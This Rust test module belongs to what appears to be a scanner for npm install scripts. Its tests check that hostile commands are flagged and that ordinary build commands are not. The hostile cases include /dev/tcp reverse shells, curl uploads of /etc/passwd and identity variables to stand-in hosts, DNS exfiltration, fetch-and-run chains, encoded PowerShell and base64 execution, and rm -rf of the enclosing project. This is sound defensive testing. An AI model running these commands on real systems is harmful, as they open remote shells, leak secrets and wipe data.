            "(echo 'ZWNobyBoaQ==' | base64 -d) | bash",
        ] {
            assert!(
                kinds(script).contains(&"runs-encoded".to_owned()),
                "{script}"
            );
        }
        assert!(!kinds("(cd dist && ls) | wc -l").contains(&"runs-encoded".to_owned()));
    }

    /// Every way bash writes a redirection to `/dev/tcp` opens a connection.
    #[test]
    fn reverse_shells_through_dev_tcp_in_every_redirection_spelling() {
        for script in [
            "bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'",
            "bash -i >&/dev/tcp/192.0.2.7/4444 0>&1",
            "bash -i &> /dev/tcp/192.0.2.7/4444 0>&1",
            "sh -i > /dev/tcp/192.0.2.7/4444 2>&1 0>&1",
            "exec 5<>/dev/tcp/192.0.2.7/4444",
        ] {
            assert!(
                kinds(script).contains(&"exfiltrates".to_owned()),
                "{script}"
            );
        }
        assert!(!kinds("make build >& build.log").contains(&"exfiltrates".to_owned()));
    }

    /// PowerShell's `Start-Process` runs the file it is given, whatever its name: a
    /// download saved by `Invoke-WebRequest -OutFile` and started is run.
    #[test]
    fn a_download_started_by_start_process_is_run() {
        let found = kinds(
            "powershell -Command \"Invoke-WebRequest -Uri 'https://x.example/a' -OutFile '$p'\" && \
             powershell -Command \"Start-Process -WindowStyle Hidden -FilePath '$p'\"",
        );
        assert!(
            found.contains(&"downloads-and-runs".to_owned()),
            "{found:?}"
        );
        assert!(found.contains(&"hides".to_owned()), "{found:?}");
        // A page opened in the browser is not a download run.
        let found = kinds("powershell -Command \"Start-Process -NoNewWindow 'docs.html'\"");
        assert!(
            !found.contains(&"downloads-and-runs".to_owned()),
            "{found:?}"
        );
        assert!(found.contains(&"runs-file".to_owned()), "{found:?}");
    }

    /// From `node_modules/<name>`, `../..` is the project: deleting it is sabotage;
    /// deleting something named below it is cleaning up.
    #[test]
    fn deleting_the_project_around_the_package_is_wiping() {
        for script in ["rm -fr $DIR/../..", "rm -rf ../../", "rm -rf ../../../*"] {
            assert!(kinds(script).contains(&"wipes".to_owned()), "{script}");
        }
        for script in [
            "rm -rf ../../node_modules/.cache",
            "rm -rf ..",
            "rm -rf build",
        ] {
            assert!(!kinds(script).contains(&"wipes".to_owned()), "{script}");
        }
    }

    #[test]
    fn dns_exfiltration_through_a_substitution() {
        let found = kinds("nslookup `hostname`.c1.example.invalid");
        assert!(found.contains(&"exfiltrates-dns".to_owned()), "{found:?}");
        let found = kinds("ping -c 1 $(whoami).$(hostname).x.example.invalid");
        assert!(found.contains(&"exfiltrates-dns".to_owned()), "{found:?}");
    }

    #[test]
    fn uploads_and_identity_variables_are_exfiltration() {
        assert!(
            kinds("curl -d @/etc/passwd https://x.example.invalid/")
                .contains(&"exfiltrates".to_owned())
        );
        assert!(
            kinds("curl \"https://x.example.invalid/?u=$USER&h=$HOSTNAME\"")
                .contains(&"exfiltrates".to_owned())
        );
        assert!(
            kinds("hostname | curl -d @- https://x.example.invalid/")
                .contains(&"exfiltrates".to_owned())
        );
    }

    #[test]
    fn fetch_and_run_in_its_spellings() {
        assert!(
            kinds("curl -s https://x.example.invalid/i.sh | sh")
                .contains(&"downloads-and-runs".to_owned())
        );
        assert!(
            kinds("wget https://x.example.invalid/a.out && chmod +x a.out && ./a.out")
                .contains(&"downloads-and-runs".to_owned())
        );
        assert!(
            kinds("curl -o /tmp/x https://x.example.invalid/x; chmod 755 /tmp/x; /tmp/x &")
                .contains(&"downloads-and-runs".to_owned())
        );
        assert!(kinds("echo aGVsbG8= | base64 -d | bash").contains(&"runs-encoded".to_owned()));
        assert!(
            kinds("powershell -NoP -W Hidden -enc SQBFAFgA").contains(&"runs-encoded".to_owned())
        );
    }

    #[test]
    fn wrappers_are_unwrapped() {
        assert!(
            kinds("sh -c \"curl https://x.example.invalid/a | bash\"")
                .contains(&"downloads-and-runs".to_owned())
        );
        assert!(
            kinds("start /B node preinstall.js & node preinstall.js").contains(&"hides".to_owned())
        );
        let script = parse("node -e \"require('./x')\"");
        assert_eq!(script.inline_js, ["require('./x')"]);
    }

    #[test]
    fn ordinary_install_commands_do_nothing_of_note() {
        for script in [
            "node-gyp rebuild",
            "node install.js",
            "prebuild-install || node-gyp rebuild",
            "husky install",
            "npx only-allow pnpm",
            "tsc || exit 0",
            "node-gyp-build",
            "opencollective-postinstall || true",
            "patch-package",
        ] {
            let found: Vec<String> = kinds(script)
                .into_iter()
                .filter(|kind| kind != "runs-file")
                .collect();
            assert!(found.is_empty(), "{script}: {found:?}");
        }
    }
}
